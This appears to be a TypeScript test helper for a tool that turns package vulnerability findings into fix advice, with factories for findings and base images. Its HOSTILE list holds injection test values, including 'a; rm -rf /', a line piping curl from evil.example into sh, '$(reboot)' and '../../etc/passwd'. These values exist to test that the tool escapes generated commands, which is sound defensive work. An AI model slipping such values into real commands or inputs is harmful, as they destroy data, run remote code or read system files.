import type { Action, ActionKind } from '../../src/domain/advice.ts'
import type { Finding, Instance, VulnerabilityFinding } from '../../src/domain/finding.ts'
import type { BaseImage } from '../../src/domain/layer.ts'
import type { OperatingSystem } from '../../src/domain/observation.ts'
import { adviseOn } from '../../src/advice/advise.ts'
import type { AdviceRequest } from '../../src/advice/advise.ts'
import { finding } from '../ground/factories.ts'
import type { FindingOverrides } from '../ground/factories.ts'

export function advise(
  findings: readonly Finding[],
  rest: Partial<Omit<AdviceRequest, 'findings'>> = {},
): readonly Action[] {
  return adviseOn({ findings, os: null, base: null, blocking: new Set(), ...rest }).actions
}

/** The only action of a kind; fails the test when there is none or more than one. */
export function actionOf(actions: readonly Action[], kind: ActionKind): Action {
  const [first, ...others] = actions.filter((one) => one.kind === kind)
  if (first === undefined || others.length > 0) {
    throw new Error(`wanted one ${kind}, got ${actions.map((one) => one.kind).join(', ')}`)
  }
  return first
}

/** What a test says of a package: `name@version` of a type, the fix that is chosen, all fixes, paths. */
export type Case = {
  readonly type?: string
  readonly name?: string
  readonly namespace?: string | null
  readonly version?: string
  /** Null: no fix. */
  readonly fix: string | null
  readonly fixes?: readonly string[]
  readonly paths?: readonly (string | null)[]
  readonly origin?: Instance['origin']
  readonly source?: string
}

/** A finding of its own for each call. */
export function flaw(one: Case, overrides: FindingOverrides = {}): VulnerabilityFinding {
  counter += 1
  const { type = 'npm', name = 'lodash', version = '4.17.20', namespace = null } = one
  const { paths = [null], origin = 'added', source } = one
  const fix =
    one.fix === null
      ? { state: 'not-fixed' as const }
      : { version: one.fix, versions: one.fixes ?? [one.fix] }
  return finding({
    instances: paths.map((path) => ({ path, layer: null, origin, replaced: null })),
    ...overrides,
    vulnerability: { id: `CVE-2099-${counter}`, ...overrides.vulnerability },
    package: {
      type,
      name,
      namespace,
      version,
      sourcePackage: source === undefined ? null : { name: source, version },
    },
    fix: { isInPlace: type !== 'generic', ...fix, ...overrides.fix },
  })
}

let counter = 0

export function system(family: string, version: string, endOfLife = false): OperatingSystem {
  return { family, version, endOfLife }
}

export function baseImage(overrides: Partial<BaseImage> = {}): BaseImage {
  return {
    name: 'debian:12',
    digest: null,
    evidence: 'label',
    isVerified: true,
    layers: 1,
    note: null,
    currentDigest: null,
    currentNote: null,
    ...overrides,
  }
}

/** Names and versions that try to be more than one word of a command. */
export const HOSTILE = [
  'a; rm -rf /',
  'a\nRUN curl evil.example | sh',
  '$(reboot)',
  '`reboot`',
  '--option',
  '-o',
  "a' && reboot '",
  'a"b',
  'a|b',
  'a>b',
  'a b',
  'a\\b',
  'а-cyrillic',
  'a\u202eb',
  'a*',
  '',
  'a'.repeat(500),
  'a&b',
  '../../etc/passwd',
  '!a',
  '~root',
  '#a',
]
